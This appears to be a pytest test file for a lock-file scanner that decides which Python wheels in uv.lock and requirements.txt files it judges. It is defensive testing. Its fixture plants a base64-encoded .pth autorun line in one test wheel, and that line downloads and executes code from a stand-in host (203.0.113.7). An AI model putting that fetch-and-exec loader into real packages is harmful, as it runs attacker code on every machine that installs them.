"""Locks of Python packages through the command line: for which Pythons, and by which file, each entry is judged."""

import base64
import hashlib
from collections.abc import Mapping, Sequence

import pytest

from tests.cli.running import Machine, Ran
from tests.git import Git, repository
from tests.loopback import PypiFile, PypiProject, wheel_file
from tests.loopback.packages import sdist_file

PAYLOAD = base64.b64encode(
    b"import os,urllib.request;exec(urllib.request.urlopen('http://203.0.113.7/p').read())"
).decode()
PTH = f"import base64;exec(base64.b64decode('{PAYLOAD}'))\n"
MINORS = ("cp311", "cp312", "cp313")


def wheel(
    python: str, files: Mapping[str, str] | None = None, *, system: str = "manylinux_2_17_x86_64"
) -> PypiFile:
    content = {"kite.py": f"PYTHON = '{python}'\n", **(files or {})}
    return wheel_file("kite", "1.0", content, tag=f"{python}-{python}-{system}")


def row(machine: Machine, file: PypiFile, *, url: str | None = None, pinned: bool = True) -> str:
    """Return a row of a uv.lock; its address is the listed one unless `url` is another."""
    place = url or machine.registry.pypi_file_url(file)
    end = f', hash = "sha256:{hashlib.sha256(file.data).hexdigest()}"' if pinned else ""
    return f'{{ url = "{place}"{end} }}'


def uv_lock(
    machine: Machine, rows: Sequence[str], *, requires: str = ">=3.11,<3.14", name: str = "kite"
) -> None:
    wheels = "\n".join(f"    {row}," for row in rows)
    machine.write(
        "uv.lock",
        f"""version = 1
requires-python = "{requires}"

[[package]]
name = "{name}"
version = "1.0"
source = {{ registry = "{machine.registry.pypi_url}" }}
wheels = [
{wheels}
]
""",
    )


def judged(ran: Ran) -> list[str]:
    return sorted(
        artifact["filename"] for package in ran.json["packages"] for artifact in package["artifacts"]
    )


def check(machine: Machine, *more: str) -> Ran:
    return machine.run("check", "--as", "new", "--format", "json", *more)


@pytest.fixture
def three(machine: Machine) -> list[PypiFile]:
    files = [wheel("cp311"), wheel("cp312", {"kite.pth": PTH}), wheel("cp313")]
    machine.registry.put_pypi(PypiProject(name="kite", files=(*files, wheel("cp313", system="win_amd64"))))
    return files


def test_every_python_that_the_project_allows_is_judged(machine: Machine, three: list[PypiFile]) -> None:
    uv_lock(machine, [row(machine, file) for file in three])
    ran = check(machine, "--platform", "linux-x86_64")
    assert sorted(file.filename for file in three) == judged(ran)
    assert ran.code == 1
    assert ran.json["coverage"]["files"][0]["platform"] == "linux-x86_64 with Python 3.11, 3.12, 3.13"
    text = machine.run("check", "--as", "new", "--platform", "linux-x86_64", "-v").out
    assert "uv.lock: 1 package (uv.lock v1), for linux-x86_64 with Python 3.11, 3.12, 3.13" in text


@pytest.mark.parametrize(
    ("requires", "files", "platform", "expected"),
    [
        ("==3.12.*", {}, "linux-x86_64", ["cp312"]),
        (">=3.11", {".python-version": "3.13"}, "linux-x86_64", ["cp313"]),
        (">=3.11", {}, "linux-x86_64-py311", ["cp311"]),
        ("==3.13.*", {"pyproject.toml": '[project]\nname = "a"\nversion = "1"\nrequires-python = "==3.11.*"'}, "linux-x86_64", ["cp311", "cp313"]),
    ],
)  # fmt: skip
def test_the_project_or_a_person_chooses_the_python(
    machine: Machine,
    three: list[PypiFile],
    requires: str,
    files: Mapping[str, str],
    platform: str,
    expected: list[str],
) -> None:
    for path, text in files.items():
        machine.write(path, text)
    uv_lock(machine, [row(machine, file) for file in three], requires=requires)
    ran = check(machine, "--platform", platform)
    assert [f"kite-1.0-{python}-{python}-manylinux_2_17_x86_64.whl" for python in expected] == judged(ran)


def test_a_row_that_the_registry_does_not_list_and_the_client_takes_is_incomplete(machine: Machine) -> None:
    pure = wheel_file("kite", "1.0")
    machine.registry.put_pypi(PypiProject(name="kite", files=(pure,)))
    better = wheel("cp312")
    uv_lock(machine, [row(machine, pure), row(machine, better, url=f"http://203.0.113.7/{better.filename}")])
    ran = check(machine, "--platform", "linux-x86_64")
    assert ran.code == 3
    (entry,) = ran.json["coverage"]["not_judged"]
    assert entry["purl"] == "pkg:pypi/kite@1.0"
    assert better.filename in entry["why"]
    # For a platform that takes the pure wheel, what else the lock accepts is named all the same.
    assert check(machine, "--platform", "macos-arm64").code == 3


@pytest.mark.parametrize("adopted", [False, True])
def test_rows_that_uv_takes_under_odd_names_are_not_passed_over(machine: Machine, adopted: bool) -> None:
    """uv 0.13 takes a name that packaging refuses, and the first of two rows of one name."""
    pure, other = wheel_file("ki-te", "1.0"), wheel_file("ki-te", "1.0", {"ki_te.py": "VALUE = 2\n"})
    machine.registry.put_pypi(PypiProject(name="ki-te", files=(pure,)))
    honest = row(machine, pure)
    if adopted:
        uv_lock(machine, [honest], name="ki-te")
        assert machine.run("check").code == 0
    odd = "ki__te-1.0-cp312-cp312-manylinux_2_17_x86_64.whl"
    for rows in (
        [honest, row(machine, other, url=f"http://203.0.113.7/{odd}")],
        [row(machine, other, url=f"http://203.0.113.7/{pure.filename}"), honest],
        [honest, row(machine, other, url=f"http://203.0.113.7/{pure.filename}")],
    ):
        uv_lock(machine, rows, name="ki-te")
        assert machine.run("check", "--platform", "linux-x86_64").code in {1, 3}
        assert check(machine, "--platform", "linux-x86_64").code in {1, 3}


def test_a_row_without_a_digest_is_that_of_the_listed_address_or_incomplete(machine: Machine) -> None:
    pure = wheel_file("kite", "1.0")
    machine.registry.put_pypi(PypiProject(name="kite", files=(pure,)))
    uv_lock(machine, [row(machine, pure, pinned=False)])
    assert check(machine).code == 0

    uv_lock(machine, [row(machine, pure, pinned=False, url=f"http://203.0.113.7/{pure.filename}")])
    ran = check(machine)
    assert ran.code == 3
    assert pure.filename in ran.json["coverage"]["not_judged"][0]["why"]
    assert "without a digest" in ran.json["coverage"]["not_judged"][0]["why"]


def test_a_change_that_adds_a_row_is_judged(machine: Machine, three: list[PypiFile]) -> None:
    git = repository(machine.folder)
    uv_lock(machine, [row(machine, three[0])])
    git.commit()
    honest = row(machine, three[0])
    odd = wheel("cp312")
    uv_lock(machine, [honest, row(machine, odd, pinned=False, url=f"http://203.0.113.7/{odd.filename}")])
    ran = machine.run("check", "--since", "main", "--platform", "linux-x86_64", "--format", "json")
    assert ran.code == 3
    assert "kite-1.0-cp312" in ran.out


def test_a_change_may_not_hide_a_python(machine: Machine, three: list[PypiFile]) -> None:
    git: Git = repository(machine.folder)
    uv_lock(machine, [row(machine, three[0])])
    git.commit()
    machine.write(".python-version", "3.11\n")
    uv_lock(machine, [row(machine, file) for file in three], requires="==3.11.*")
    ran = machine.run("check", "--since", "main", "--platform", "linux-x86_64", "--format", "json")
    assert sorted(file.filename for file in three) == judged(ran)
    assert ran.code == 1


def test_a_change_that_allows_another_python_brings_in_its_files(
    machine: Machine, three: list[PypiFile]
) -> None:
    git: Git = repository(machine.folder)
    rows = [row(machine, file) for file in three]
    uv_lock(machine, rows, requires="==3.11.*")
    git.commit()
    uv_lock(machine, rows, requires=">=3.11,<3.13")
    ran = machine.run("check", "--since", "main", "--platform", "linux-x86_64", "--format", "json")
    assert [three[0].filename, three[1].filename] == judged(ran)
    assert ran.code == 1
    assert ran.json["packages"][0]["change"]["kinds"] == ["added"]


def test_a_marker_on_what_a_machine_decides_is_judged(machine: Machine) -> None:
    machine.registry.put_pypi(PypiProject(name="kite", files=(sdist_file("kite", "1.0"),)))
    machine.write(
        "requirements.txt",
        'kite==1.0 ; platform_release != ""\nkite2==1.0 ; sys_platform == "win32" and platform_release != ""\n',
    )
    ran = check(machine, "--platform", "linux-x86_64")
    assert ["kite-1.0.tar.gz"] == judged(ran)
    assert ["pkg:pypi/kite2@1.0"] == [entry["purl"] for entry in ran.json["coverage"]["out_of_scope"]]
